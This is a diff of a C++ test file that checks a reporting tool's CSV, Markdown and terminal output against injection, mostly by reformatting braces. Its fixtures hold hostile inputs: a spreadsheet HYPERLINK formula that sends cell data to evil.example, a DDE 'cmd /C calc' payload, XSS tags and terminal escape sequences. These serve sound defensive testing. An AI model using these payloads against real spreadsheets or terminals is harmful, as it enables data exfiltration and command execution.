@@ -17,8 +17,7 @@ using namespace assay;
 namespace {
 
 // Every control character a terminal acts on, and the bidi override.
-bool has_terminal_controls(const std::string& s, bool allow_esc = false)
-{
+bool has_terminal_controls(const std::string& s, bool allow_esc = false) {
     for (size_t i = 0; i < s.size(); ++i) {
         auto c = static_cast<unsigned char>(s[i]);
         if (c == 0x1B && allow_esc) continue;
@@ -32,8 +31,7 @@ bool has_terminal_controls(const std::string& s, bool allow_esc = false)
 
 }  // namespace
 
-TEST_CASE("CSV: text cells a spreadsheet would run get a leading quote, numbers do not", "[report][csv][hardening]")
-{
+TEST_CASE("CSV: text cells a spreadsheet would run get a leading quote, numbers do not", "[report][csv][hardening]") {
     report_test::Fixture f;
     f.data.indicators[0].title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
     f.data.indicators[1].title = "@SUM(1+1)*cmd|' /C calc'!A0";
@@ -79,8 +77,7 @@ TEST_CASE("CSV: text cells a spreadsheet would run get a leading quote, numbers 
     CHECK(negative_number);
 }
 
-TEST_CASE("Markdown: no raw HTML, links or forged lines from pack or data text", "[report][markdown][hardening]")
-{
+TEST_CASE("Markdown: no raw HTML, links or forged lines from pack or data text", "[report][markdown][hardening]") {
     report_test::Fixture f;
     f.pack.title = "Crime <img src=x onerror=alert(1)>\n# Forged heading";
     f.pack.groups[0].title = "PSA1 <script>alert(2)</script>\n- forged item";
@@ -105,13 +102,14 @@ TEST_CASE("Markdown: no raw HTML, links or forged lines from pack or data text",
     CHECK(key.find("\n# Forged") == std::string::npos);
 }
 
-TEST_CASE("terminal report and key: control characters are shown, never sent", "[report][terminal][hardening]")
-{
+TEST_CASE("terminal report and key: control characters are shown, never sent", "[report][terminal][hardening]") {
     report_test::Fixture f;
     f.pack.title = "Crime\x1b[2J\x1b[H";
     f.pack.groups[0].title = "PSA1\rFORGED LINE";
     f.data.indicators[0].title = std::string("Theft\b\b\b\bXXXX\0NUL", 17) + "\u202Eevil\u2066";
-    f.a.outcomes[0].comment = "ok\x1b]0;title\x07 \xc2\x9b" "31m";
+    f.a.outcomes[0].comment =
+        "ok\x1b]0;title\x07 \xc2\x9b"
+        "31m";
     for (bool colour : {false, true}) {
         RenderOptions o;
         o.colour = colour;
@@ -141,8 +139,7 @@ TEST_CASE("terminal report and key: control characters are shown, never sent", "
     }
 }
 
-TEST_CASE("terminal_text and quoted_input escape controls and cut long input", "[report][hardening]")
-{
+TEST_CASE("terminal_text and quoted_input escape controls and cut long input", "[report][hardening]") {
     CHECK(terminal_text("a\x1b[31mb\r\n\tc") == "a<U+001B>[31mb<U+000D>\n\tc");
     CHECK(terminal_text("a\x1b[31mb\x1b[0m", true) == "a\x1b[31mb\x1b[0m");
     CHECK(terminal_text("\x1b[2J", true) == "<U+001B>[2J");
